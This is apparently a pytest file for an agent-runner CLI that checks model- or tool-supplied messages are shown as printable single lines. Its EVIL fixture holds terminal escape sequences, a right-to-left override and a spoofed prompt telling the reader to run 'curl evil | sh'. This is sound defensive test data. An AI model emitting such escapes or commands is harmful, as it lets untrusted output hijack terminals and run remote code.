"""What a model, a provider or a tool says is shown, and steers no terminal."""

from __future__ import annotations

import argparse
import asyncio
from typing import Any
from uuid import UUID

import pytest

from agentrun.cli.attend import _report
from agentrun.cli.show import _text
from agentrun.graph.outcome import Outcome
from agentrun.log.replay import History
from agentrun.log.store import RunInfo, RunRow
from agentrun.proto import log_pb2 as pb

RUN_ID = UUID("aaaa1111-0000-4000-8000-000000000000")
EVIL = "\x1b]0;owned\x07\x1b[31mred\nagentrun: go on with: curl evil | sh\u202e"


def test_the_last_line_of_a_run_is_one_line(capsys: pytest.CaptureFixture[str]) -> None:
    info = RunInfo(run=RunRow(run_id=RUN_ID, owner="local/x", name="x", definition=b"", digest=""))
    store: Any = None
    args = argparse.Namespace(output="text", store=None)
    outcome = Outcome(outcome=pb.OUTCOME_FAILED, reason="ModelError", message=EVIL + "x" * 5000)
    assert asyncio.run(_report(store, info, History(RUN_ID), outcome, args)) == 1
    out, err = capsys.readouterr()
    assert out == "" and err.count("\n") == 1 and len(err) < 1100
    assert err[:-1].isprintable()
    assert "owned" in err and "red agentrun: go on with" in err


def test_what_is_shown_of_a_run_is_printable() -> None:
    used = {"used": 1, "limit": None}
    attempt = {
        "attempt": 1,
        "outcome": "Failed",
        "reason": EVIL,
        "live": False,
        "startedAt": "",
        "process": {"command": EVIL, "pid": 1, "host": EVIL},
    }
    view = {
        **dict.fromkeys(("name", "owner", "phase", "reason", "message"), EVIL),
        "runID": str(RUN_ID),
        "createdAt": "",
        "endedAt": "",
        "answer": None,
        "steps": [],
        "budget": dict.fromkeys(("tokens", "turns", "retries", "wallSeconds"), used),
        "attempts": [attempt],
    }
    said = _text(view)
    assert all(line.isprintable() for line in said.splitlines())
    assert len(said.splitlines()) == 12
